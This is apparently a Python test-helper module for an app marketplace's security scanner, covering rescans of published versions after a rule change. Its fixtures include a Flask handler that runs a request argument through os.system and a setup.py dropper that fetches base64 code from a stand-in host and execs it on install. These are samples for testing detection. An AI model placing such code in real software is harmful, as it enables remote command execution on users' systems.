"""What is offered while the rules change."""

from datetime import timedelta

from django.utils import timezone

from marketplace.core.models import SecurityAudit
from scanner import tasks
from scanner.actions import rescans
from scanner.models import Rescan, RuleSet
from tests.factories import ScanFactory

HELLO = "from flask import Flask\n\napp = Flask(__name__)\n"

SHELL = 'import os\nfrom flask import request\n\ndef run():\n    os.system(request.args["c"])\n'

DROPPER = """import base64, urllib.request
from setuptools import setup

exec(base64.b64decode(urllib.request.urlopen("https://files.invalid/step").read()))
setup(name="nice-app")
"""


def now():
    return timezone.now()


def rules_change():
    """What is on disk is other than what a worker saw before."""
    RuleSet.objects.update(digest="0" * 64, first_seen_at=now() - timedelta(days=1))


def offered(stored, files, *, installs=0, **facts):
    """In the store, scanned by the rules of that time."""
    version = stored(files, published=True, app__install_count=installs, **facts)
    ScanFactory(version=version, risk=version.risk)
    return version


def campaign():
    rules_change()
    tasks.watch_rules()
    return Rescan.objects.get()


def read(rescan, run_jobs):
    run_jobs("scanner.read_lane")
    rescan.refresh_from_db()
    assert rescan.status == "read"
    return rescan


def enforce(rescan, staff, run_jobs):
    rescans.enforce(rescan=rescan, reason="So.", by=staff, at=now())
    run_jobs("scanner.apply_rescan")
    rescan.refresh_from_db()
    return rescan


def actions():
    return list(SecurityAudit.objects.order_by("pk").values_list("action", flat=True))
